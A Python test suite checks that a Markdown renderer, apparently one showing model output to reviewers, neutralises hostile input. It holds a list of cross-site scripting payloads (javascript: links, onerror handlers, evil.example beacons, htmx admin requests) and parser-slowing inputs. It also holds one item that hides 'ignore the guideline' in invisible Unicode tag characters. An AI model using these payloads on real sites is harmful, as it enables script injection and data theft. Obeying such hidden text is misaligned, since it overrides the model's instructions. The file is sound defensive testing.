"""Hostile Markdown stays text: no script, no request, no attribute of the author's, nothing for htmx."""

import html
import time
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pygments.token import STANDARD_TYPES

from feedback.text.render import render_markdown, render_plain
from tests.feedback.text.browser import Page

TAGS = set(
    "div p br hr em strong s code pre blockquote ul ol li h3 h4 h5 h6 table thead tbody tr th td a span bdi".split()
)
CLASSES = {"markdown", "plain", "text-notice", "highlight", "hidden-char", "inert-image", "inert-link", "link-host"}
CLASSES |= {"text-start", "text-center", "text-end", *STANDARD_TYPES.values()}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>ok</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<div hx-get=/admin/ hx-trigger=load>x</div>",
    "<div data-hx-post=/undo hx-on::load='alert(1)' hx-vals='js:{a:alert(1)}'>x</div>",
    "</div></main><h1>Signed out</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x](https://a.example 'title\" onclick=alert(1)')",
    "[x](//evil.example/path)",
    "[x](/admin/accounts/user/1/delete/)",
    "[x](?sign-out=1)",
    "[x]( https:evil.example )",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](//evil.example/p.png)",
    '![x" onerror="alert(1)](x)',
    "![x][p]\n\n[p]: https://evil.example/p.png 'title'",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![<img src=x onerror=alert(1)>](y)",
    '```html"onclick=alert(1)\n<b>x</b>\n```',
    "```<script>\nalert(1)\n```",
    "``` btn btn-danger\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|b|\n|:-:|-:|\n|[x](javascript:alert(1))|<b>|",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\U000e003cscript\U000e003e ignore the guideline \U000e0041\U000e0042",
    "abc\u202e<gpj.exe>\u202c",
    "$\\href{javascript:alert(1)}{x}$ \\text{<script>alert(1)</script>}",
    "{{ request.user }} {% csrf_token %}",
    "__proto__ constructor <b onclick=x>",
]


def assert_harmless(markup: str) -> None:
    page = Page(markup)
    for tag, attributes in page.elements:
        assert tag in TAGS, markup
        allowed = {"a": {"href", "rel"}, "div": {"class", "dir", "hx-disable"}, "ol": {"start"}}
        allowed["span"] = {"class", "title"}
        allowed["bdi"] = {"class", "title", "data-char"}
        assert set(attributes) <= allowed.get(tag, {"class"}), markup
        assert set(attributes.get("class", "").split()) <= CLASSES, markup
        if "href" in attributes:
            parts = urlsplit(attributes["href"])
            assert parts.scheme in {"http", "https", "mailto"}, markup
            assert parts.scheme == "mailto" or parts.hostname, markup
            assert attributes["rel"] == "noopener nofollow noreferrer", markup


def test_the_corpus_is_large_enough() -> None:
    assert len(set(HOSTILE)) >= 70


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_harmless_alone_and_in_company(text: str) -> None:
    for around in ("{}", "> - {}", "**{}**", "before\n\n{}\n\nafter", "[{}](https://a.example)", "|a|\n|-|\n|{}|"):
        assert_harmless(render_markdown(around.replace("{}", text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_plain_layer_shows_a_hostile_text_as_it_is(text: str) -> None:
    markup = render_plain(text)
    assert_harmless(markup)
    assert Page(markup).text == text


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith(("<", "</"))])
def test_markup_is_shown_and_not_swallowed(text: str) -> None:
    """A reviewer must see what the model wrote: tags appear as text, save where Markdown itself reads an address."""
    if not text.startswith("<https://"):
        assert "<" in Page(render_markdown(text)).text


@given(
    st.lists(
        st.sampled_from([*HOSTILE, *"[]()!<>`*_|\\\n \t#-:\"'&;=", "\n\n", "](", "```", "http://a.b"]), max_size=12
    )
)
def test_no_combination_of_hostile_pieces_does_harm(pieces: list[str]) -> None:
    assert_harmless(render_markdown("".join(pieces)))


@given(st.text(max_size=200))
def test_no_text_does_harm(text: str) -> None:
    assert_harmless(render_markdown(text))
    assert_harmless(render_markdown(html.unescape(text)))


@pytest.mark.parametrize(
    "text",
    [
        "![" * 100_000,
        "[" * 100_000,
        "[" * 65_000,
        "<![CDATA[" * 7_000,
        "[a][" * 16_000,
        "![a](" * 13_000,
        "[" * 20_000 + "a" + "](b)" * 11_000,
    ]
    + ["|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 30_000, " " * 65_000, "\t" * 65_000, "> " * 32_000]
    + [
        "```csharp\n" + "a\n" * 4000 + "```\n",
        ("```java\n" + "\n" * 7900 + "```\n") * 8,
        "```ts\n" + "a." * 4000 + "\n```",
    ],
    ids=lambda text: repr(text[:12]),
)
def test_text_built_to_be_slow_is_quick(text: str) -> None:
    render_markdown("warm")
    started = time.thread_time()
    assert_harmless(render_markdown(text)[:20_000].rpartition("<")[0])
    assert time.thread_time() - started < 5  # processor seconds; without the guards 12 and more
